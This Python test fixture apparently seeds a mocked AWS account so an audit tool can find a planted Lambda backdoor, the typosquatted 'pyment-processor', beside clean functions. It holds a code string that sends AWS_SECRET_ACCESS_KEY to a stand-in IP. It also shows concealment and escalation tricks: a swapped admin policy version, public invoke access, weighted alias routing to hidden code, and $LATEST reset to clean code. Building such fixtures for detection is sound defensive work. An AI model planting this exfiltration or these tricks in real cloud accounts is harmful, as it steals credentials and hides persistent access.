"""The planted account: one backdoor beside clean functions, built through boto3 on moto's server.

us-east-1:
- ``payment-processor`` (clean): basic execution role, the account's own layer, an alias, an SQS
  event source mapping, a function URL with AWS_IAM, an invoke permission for EventBridge
  scoped to one rule, an hourly EventBridge rule.
- ``orders-api`` (clean): a REST API method and an HTTP API route, both with AWS_IAM
  authorization, and an SNS subscription.
- ``pyment-processor`` (the backdoor, created last): a typosquat of payment-processor; a role
  that is administrator through the *default version* of a customer policy (v1 harmless); a
  public URL with CORS *; another account's layer; an EventBridge rule every minute; alias
  ``live`` on version 1 sending 10% to version 2 (the hidden, different code) and a public
  invoke permission on ``live`` only; an EventBridge Scheduler schedule every minute on
  ``live``; ``$LATEST`` back to the clean code.
eu-west-1:
- ``report-builder`` (clean): S3 notifications for ``reports/`` objects only.
"""

from __future__ import annotations

import io
import json
import time
import zipfile
from typing import Any

from tests.audit.moto_fixes import attach_foreign_layer

ACCOUNT = "123456789012"
FOREIGN_LAYER = "arn:aws:lambda:us-east-1:999988887777:layer:telemetry-agent:3"
CLEAN_CODE = b"import json\n\ndef handler(event, context):\n    return {'ok': True}\n"
BACKDOOR_CODE = (
    b"import os\nimport urllib.request\n\ndef handler(event, context):\n"
    b"    urllib.request.urlopen('http://203.0.113.50/c', "
    b"data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n"
)
TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"Service": "lambda.amazonaws.com"},
                "Action": "sts:AssumeRole",
            }
        ],
    }
)


def package(code: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("handler.py", (2024, 1, 1, 0, 0, 0))
        zf.writestr(info, code)
    return buf.getvalue()


def _doc(statements: list[dict[str, Any]]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": statements})


def roles(iam: Any) -> tuple[str, str]:
    clean = iam.create_role(RoleName="payments-exec", AssumeRolePolicyDocument=TRUST)["Role"]["Arn"]
    iam.attach_role_policy(
        RoleName="payments-exec",
        PolicyArn=("arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"),
    )
    admin = iam.create_role(RoleName="ops-maintenance", AssumeRolePolicyDocument=TRUST)["Role"][
        "Arn"
    ]
    pol = iam.create_policy(
        PolicyName="ops-maintenance-logs",
        PolicyDocument=_doc(
            [
                {
                    "Effect": "Allow",
                    "Action": "logs:CreateLogStream",
                    "Resource": "arn:aws:logs:*:*:*",
                }
            ]
        ),
    )["Policy"]["Arn"]
    iam.create_policy_version(
        PolicyArn=pol,
        SetAsDefault=True,
        PolicyDocument=_doc([{"Effect": "Allow", "Action": "*", "Resource": "*"}]),
    )
    iam.attach_role_policy(RoleName="ops-maintenance", PolicyArn=pol)
    return clean, admin


def build(session: Any, endpoint: str) -> dict[str, str]:
    """Plant the account; returns the ARNs tests refer to."""
    c = lambda svc, region="us-east-1": session.client(
        svc, region_name=region, endpoint_url=endpoint
    )
    clean_role, admin_role = roles(c("iam"))
    lam, events = c("lambda"), c("events")
    layer = lam.publish_layer_version(
        LayerName="common-utils",
        Content={"ZipFile": package(b"def util():\n    return 1\n")},
        CompatibleRuntimes=["python3.12"],
    )["LayerVersionArn"]
    base = {"Runtime": "python3.12", "Handler": "handler.handler", "Timeout": 30, "MemorySize": 256}
    pp = lam.create_function(
        FunctionName="payment-processor",
        Role=clean_role,
        Code={"ZipFile": package(CLEAN_CODE)},
        Layers=[layer],
        Environment={"Variables": {"STAGE": "prod"}},
        **base,
    )["FunctionArn"]
    lam.publish_version(FunctionName="payment-processor")
    lam.create_alias(FunctionName="payment-processor", Name="prod", FunctionVersion="1")
    queue = c("sqs").create_queue(QueueName="payments")["QueueUrl"]
    qarn = c("sqs").get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"][
        "QueueArn"
    ]
    lam.create_event_source_mapping(FunctionName="payment-processor", EventSourceArn=qarn)
    lam.create_function_url_config(FunctionName="payment-processor", AuthType="AWS_IAM")
    hourly = events.put_rule(Name="payments-hourly", ScheduleExpression="rate(1 hour)")["RuleArn"]
    events.put_targets(Rule="payments-hourly", Targets=[{"Id": "1", "Arn": pp}])
    lam.add_permission(
        FunctionName="payment-processor",
        StatementId="events",
        Action="lambda:InvokeFunction",
        Principal="events.amazonaws.com",
        SourceArn=hourly,
    )
    orders = lam.create_function(
        FunctionName="orders-api", Role=clean_role, Code={"ZipFile": package(CLEAN_CODE)}, **base
    )["FunctionArn"]
    _rest_api(c("apigateway"), orders)
    _http_api(c("apigatewayv2"), orders)
    topic = c("sns").create_topic(Name="order-events")["TopicArn"]
    c("sns").subscribe(TopicArn=topic, Protocol="lambda", Endpoint=orders)
    time.sleep(0.01)  # the backdoor is younger than the function it imitates
    bd = lam.create_function(
        FunctionName="pyment-processor",
        Role=admin_role,
        Code={"ZipFile": package(CLEAN_CODE)},
        **base,
    )["FunctionArn"]
    attach_foreign_layer(ACCOUNT, "us-east-1", "pyment-processor", FOREIGN_LAYER)
    lam.publish_version(FunctionName="pyment-processor")
    lam.update_function_code(FunctionName="pyment-processor", ZipFile=package(BACKDOOR_CODE))
    lam.publish_version(FunctionName="pyment-processor")
    lam.update_function_code(FunctionName="pyment-processor", ZipFile=package(CLEAN_CODE))
    lam.create_alias(
        FunctionName="pyment-processor",
        Name="live",
        FunctionVersion="1",
        RoutingConfig={"AdditionalVersionWeights": {"2": 0.1}},
    )
    lam.add_permission(
        FunctionName="pyment-processor",
        StatementId="open",
        Qualifier="live",
        Action="lambda:InvokeFunction",
        Principal="*",
    )
    lam.create_function_url_config(
        FunctionName="pyment-processor", AuthType="NONE", Cors={"AllowOrigins": ["*"]}
    )
    events.put_rule(Name="healthcheck", ScheduleExpression="rate(1 minute)")
    events.put_targets(Rule="healthcheck", Targets=[{"Id": "1", "Arn": bd}])
    c("scheduler").create_schedule(
        Name="warmup",
        ScheduleExpression="cron(* * * * ? *)",
        FlexibleTimeWindow={"Mode": "OFF"},
        Target={"Arn": f"{bd}:live", "RoleArn": admin_role},
    )
    _eu(c, clean_role)
    return {"backdoor": bd, "payment": pp, "orders": orders}


def _rest_api(apigw: Any, function_arn: str) -> None:
    api = apigw.create_rest_api(name="orders")["id"]
    root = apigw.get_resources(restApiId=api)["items"][0]["id"]
    res = apigw.create_resource(restApiId=api, parentId=root, pathPart="orders")["id"]
    apigw.put_method(restApiId=api, resourceId=res, httpMethod="GET", authorizationType="AWS_IAM")
    apigw.put_integration(
        restApiId=api,
        resourceId=res,
        httpMethod="GET",
        type="AWS_PROXY",
        integrationHttpMethod="POST",
        uri=(
            "arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/"
            f"{function_arn}/invocations"
        ),
    )


def _http_api(apigw: Any, function_arn: str) -> None:
    api = apigw.create_api(Name="orders-http", ProtocolType="HTTP")["ApiId"]
    integration = apigw.create_integration(
        ApiId=api,
        IntegrationType="AWS_PROXY",
        IntegrationUri=function_arn,
        PayloadFormatVersion="2.0",
    )["IntegrationId"]
    apigw.create_route(
        ApiId=api,
        RouteKey="GET /orders",
        AuthorizationType="AWS_IAM",
        Target=f"integrations/{integration}",
    )


def _eu(c: Any, role: str) -> None:
    lam = c("lambda", "eu-west-1")
    arn = lam.create_function(
        FunctionName="report-builder",
        Role=role,
        Runtime="python3.12",
        Handler="handler.handler",
        Code={"ZipFile": package(CLEAN_CODE)},
    )["FunctionArn"]
    s3 = c("s3", "eu-west-1")
    s3.create_bucket(
        Bucket="acme-reports", CreateBucketConfiguration={"LocationConstraint": "eu-west-1"}
    )
    s3.put_bucket_notification_configuration(
        Bucket="acme-reports",
        NotificationConfiguration={
            "LambdaFunctionConfigurations": [
                {
                    "LambdaFunctionArn": arn,
                    "Events": ["s3:ObjectCreated:Put"],
                    "Filter": {"Key": {"FilterRules": [{"Name": "prefix", "Value": "reports/"}]}},
                }
            ]
        },
    )
